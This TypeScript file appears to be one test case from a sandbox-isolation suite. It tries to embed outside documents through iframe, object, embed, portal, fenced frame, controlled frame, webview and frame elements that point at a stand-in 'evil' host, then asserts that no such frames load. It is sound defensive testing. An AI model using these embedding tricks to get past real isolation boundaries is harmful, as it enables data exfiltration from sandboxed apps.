import type { Attack } from '../attack.ts';
import { same } from '../expect.ts';

export const attack: Attack = {
  id: '110',
  group: 'exfiltration',
  title:
    'embed another page by portal, fenced frame, controlled frame, object, embed, frameset or a nested frame of an allowed host',
  expected: '0 hits, no document of anybody else inside the app',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    const ways: Readonly<Record<string, string>> = {
      iframe: 'src',
      object: 'data',
      embed: 'src',
      portal: 'src',
      fencedframe: 'src',
      controlledframe: 'src',
      webview: 'src',
      frame: 'src',
    };
    for (const [name, attribute] of Object.entries(ways)) {
      for (const address of [`${evil}/110/${name}`, `${location.protocol}//${location.host}${location.pathname}`]) {
        const element = document.createElement(name);
        element.setAttribute(attribute, address);
        document.body.append(element);
      }
    }
    const Config: unknown = Reflect.get(window, 'FencedFrameConfig');
    if (typeof Config === 'function') {
      const fenced = document.createElement('fencedframe');
      try {
        Reflect.set(fenced, 'config', Reflect.construct(Config, [`${evil}/110/config`]));
      } catch {
        // Refused at once.
      }
      document.body.append(fenced);
    }
    await pause(800);
    return null;
  },
  judge({ frame }) {
    const inside =
      frame()
        ?.childFrames()
        .filter((child) => /^https?:/.test(child.url())) ?? [];
    same(
      inside.map((child) => child.url()),
      [],
      'documents inside the app',
    );
  },
};
